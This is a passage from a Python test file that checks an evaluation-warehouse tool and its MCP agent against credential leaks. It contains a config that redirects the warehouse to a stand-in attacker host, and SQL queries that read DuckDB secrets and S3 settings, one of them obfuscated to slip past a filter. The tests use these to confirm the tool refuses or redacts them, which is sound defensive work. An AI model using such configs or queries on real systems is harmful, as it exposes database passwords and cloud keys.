    would connect out with its own EVALWH_PG_PASSWORD (or S3 keys) to the attacker's host."""
    from evalwh.config.confinement import ConfinementError
    from evalwh.mcp import tools
    from evalwh.mcp.agent import Agent

    root = tmp_path / "root"
    settings = (
        '  warehouse: "ducklake:postgres:dbname=x host=attacker.example user=u"\n'
        "  lake: {data_path: s3://attacker/}\n"
    )
    eval_yaml(root, 3, settings=settings)
    agent = Agent(root=root.resolve(), cwd=root, allow_code=False)
    with pytest.raises(ConfinementError) as caught:
        tools.render_prompt(agent, "eval.yaml", "v", "c00001")
    assert [v.key for v in caught.value.violations] == ["settings.warehouse", "settings.lake"]


def test_api_key_never_reaches_the_store(
    tmp_path: Path, server: FakeLLMServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = "sk-proj-" + "Z" * 48
    monkeypatch.setenv("OPENAI_API_KEY", secret)
    server.default = error(401, "bad key", echo_auth=True)  # the server echoes the key back
    block = f"  - {{id: m, provider: openai, model: gpt-4o-mini, base_url: '{server.openai_url}'}}"
    cfg = eval_for(tmp_path, block, 2)
    evalwh.run_eval(cfg, output_dir=tmp_path / "out")
    for file in (tmp_path / "out").rglob("*"):
        if file.is_file():
            assert secret.encode() not in file.read_bytes(), file
    with duckdb.connect(str(tmp_path / "out" / "warehouse.duckdb"), read_only=True) as con:
        (message,) = con.execute("SELECT any_value(error) FROM cases").fetchone()  # type: ignore[misc]
    assert "401" in message and "***" in message


LAKE_CATALOG_QUERIES = {
    "duckdb_databases": "SELECT * FROM duckdb_databases()",  # the attach path
    "duckdb_settings": "SELECT * FROM duckdb_settings()",  # allowed_paths, s3_* from AWS_*
    "pragma_database_list": "SELECT * FROM pragma_database_list",
    "current_setting": "SELECT current_setting('s3_secret_access_key') AS s",
    "duckdb_secrets": "SELECT * FROM duckdb_secrets()",  # the S3 key id
    "query_naming_duckdb_secrets": "FROM query('SELECT * FROM duckdb_' || 'secrets()')",
}
REFUSED = {"duckdb_secrets", "query_naming_duckdb_secrets"}


@pytest.mark.parametrize("name", sorted(LAKE_CATALOG_QUERIES))
def test_lake_credentials_through_a_catalog_function_of_evalwh_sql_and_mcp_query(
    lake: Lake, tmp_path: Path, name: str
) -> None:
    """Attack: on a lake (PostgreSQL catalog, S3 data), `evalwh -vv sql` and MCP `query`
    read the catalog's functions and settings, which held the PostgreSQL password (in the
    attach path) and the S3 keys (httpfs copies AWS_* into settings). The password now goes
    through a DuckDB secret, which DuckDB redacts; the AWS_* settings are reset; the secret
    listing (its key id) is refused. The catalog functions still answer."""
    from evalwh.mcp import tools
    from evalwh.mcp.agent import Agent
    from evalwh.warehouse.connect import write_transaction
    from tests.fakes.lake import AWS_KEY, AWS_SECRET, PG_PASSWORD

    target = api.open_warehouse(lake.target).store.path
    write_transaction(target, lambda con: None, what="create the lake")
    sql = LAKE_CATALOG_QUERIES[name]
    done = run_cli("-vv", "sql", sql, "--json", cwd=tmp_path)
    shown = done.stdout + done.stderr
    assert done.returncode == (2 if name in REFUSED else 0), done.stderr
    agent = Agent(root=tmp_path.resolve(), cwd=tmp_path, allow_code=False)
    try:
        shown += json.dumps(tools.query(agent, sql), default=str)
    except Exception as exc:  # the refusal, as MCP answers it
        assert name in REFUSED, exc
        shown += str(exc)
    for credential in (PG_PASSWORD, AWS_SECRET, AWS_KEY):
        assert credential not in shown
